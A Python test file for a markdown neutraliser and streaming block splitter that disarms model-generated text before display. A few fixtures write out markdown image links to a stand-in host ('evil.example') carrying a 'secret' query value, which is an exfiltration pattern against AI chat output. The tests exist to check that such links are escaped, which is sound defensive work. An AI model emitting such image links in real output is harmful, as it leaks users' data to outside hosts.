"""Text from models cannot call out, and what was typed is shown as typed."""

from __future__ import annotations

import itertools

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pages.components.blocks import BREAK, BlockSplitter
from pages.components.markdown import Neutraliser, escape, plain, safe


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![x](https://evil.example/a?q=secret)", r"!\[x](https://evil.example/a?q=secret) (evil\.example)"),
        ("![x][ref]", r"!\[x][ref]"),
        ("[![x](//evil/p.png)](https://evil)", r"[!\[x](//evil/p.png) (evil)](https://evil) (evil)"),
        ("`a $5 :red[b]` stays", "`a $5 :red[b]` stays"),
        ("`![x](y)` in code", r"`!\[x](y)` in code"),
        ("It`s ![x](y)", r"It`s !\[x](y)"),
        ("- ```\n![x](y)", "- ```\n!\\[x](y)"),
        ("> ```\n![x](y)", "> ```\n!\\[x](y)"),
        ("``` a`b\n![x](y)", "``` a`b\n!\\[x](y)"),
        ("```\n``` x\n![x](y)\n```\n![x](y)", "```\n``` x\n![x](y)\n```\n!\\[x](y)"),
        ("```\n![x](y)\n```\n![x](y)", "```\n![x](y)\n```\n!\\[x](y)"),
        ("``a ` ![x](y)`` ![x](y)", "``a ` !\\[x](y)`` !\\[x](y)"),
        ("costs $5 or $0.10", r"costs \$5 or \$0.10"),
        ("maths $x^2$ and $$y$$", "maths $x^2$ and $$y$$"),
        (":red[hot] at 12:30", r"\:red[hot] at 12:30"),
        ("see [docs](https://a.example/p)", r"see [docs](https://a.example/p) (a\.example)"),
        ("see [docs](#anchor) [1]", "see [docs](#anchor) [1]"),
        ("Wow!", "Wow!"),
        ('<p title=":red[x]">$5\n  </p>', '\\<p title="\\:red[x]">\\$5\n  \\</p>'),
        ("<!-- :red[x] -->", "\\<!-- \\:red[x] -->"),
        ("1 < 2, a <b>c</b>\n< 3", "1 < 2, a <b>c</b>\n< 3"),
        ("<https://a.example>\n<me@a.example>", "<https://a.example>\n<me@a.example>"),
        ("    <p>\n```\n<p>\n```", "    <p>\n```\n<p>\n```"),
    ],
)  # fmt: skip
def test_model_text_is_disarmed_outside_code(text: str, shown: str) -> None:
    assert safe(text) == shown


SAMPLES = st.lists(
    st.sampled_from(
        ["![", "](", ")", "[", "]", "!", "$", "5", "x", ":", "red", "`", "``", "```", "\n", "\n\n",
         "~~~", "- a", "1. b", "> q", "| t |", "http://e/", " ", "text", "$$", "[^1]", "**", "<", "</", "<p", ">"]
    ),
    max_size=40,
).map("".join)  # fmt: skip


def cut(text: str, points: list[int]) -> list[str]:
    edges = sorted({0, len(text), *(p % (len(text) + 1) for p in points)})
    return [text[a:b] for a, b in itertools.pairwise(edges)]


@given(SAMPLES, st.lists(st.integers(0, 200), max_size=8))
def test_cutting_a_stream_anywhere_changes_nothing(text: str, points: list[int]) -> None:
    neutraliser = Neutraliser()
    pieces = "".join(neutraliser.feed(piece) for piece in cut(text, points))
    assert pieces + neutraliser.close() == safe(text)


@given(SAMPLES, st.lists(st.integers(0, 200), max_size=8), st.sampled_from([0, 15]))
def test_blocks_joined_are_the_source(text: str, points: list[int], smallest: int) -> None:
    splitter = BlockSplitter(smallest)
    out = [part for piece in cut(text, points) for part in splitter.feed(piece)]
    assert "".join(part for part in [*out, *splitter.close()] if part is not BREAK) == text


def blocks(text: str) -> list[str]:
    splitter = BlockSplitter()
    out = splitter.feed(text) + splitter.close()
    joined = "".join("\x00" if part is BREAK else part for part in out)
    return joined.split("\x00")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("one\n\ntwo", ["one\n\n", "two"]),
        ("- a\n\n- b\n\ntext", ["- a\n\n- b\n\n", "text"]),
        ("1. a\n\n   more\n2. b\n\ntext", ["1. a\n\n   more\n2. b\n\n", "text"]),
        ("```\na\n\nb\n```\n\ntext", ["```\na\n\nb\n```\n\n", "text"]),
        ("~~~~\na\n\n~~~\nb\n~~~~\n\ntext", ["~~~~\na\n\n~~~\nb\n~~~~\n\n", "text"]),
        ("| a |\n|---|\n| 1 |\n\ntext", ["| a |\n|---|\n| 1 |\n\n", "text"]),
        ("> q\n\n> r\n\ntext", ["> q\n\n> r\n\n", "text"]),
        ("$$\nx\n\ny\n$$\n\ntext", ["$$\nx\n\ny\n$$\n\n", "text"]),
        ("note[^1]\n\nb\n\n[^1]: c", ["note[^1]\n\nb\n\n[^1]: c"]),
        ("cited [1][2]\n\nb", ["cited [1][2]\n\n", "b"]),
        ("one\n\n- a", ["one\n\n", "- a"]),
    ],
)
def test_a_block_ends_only_where_something_new_begins(text: str, expected: list[str]) -> None:
    assert blocks(text) == expected


@pytest.mark.parametrize("text", ["# not a title", "*a* _b_ `c` [d](e) ![f](g)", ":red[x] $5 ~h~"])
def test_titles_appear_as_they_are(text: str) -> None:
    assert escape(text).replace("\\", "") == text
    assert "\\" in escape(text)


def test_a_question_keeps_its_line_breaks() -> None:
    assert plain("a\n* b") == "a  \n\\* b"


def test_small_blocks_stay_together_and_a_cut_still_needs_something_new() -> None:
    splitter = BlockSplitter(20)
    out = splitter.feed("one\n\n- a\n\n- b\n\nlong enough text\n\n- c\n\n- d") + splitter.close()
    joined = "".join("\x00" if part is BREAK else part for part in out)
    assert joined.split("\x00") == ["one\n\n- a\n\n- b\n\nlong enough text\n\n", "- c\n\n- d"]
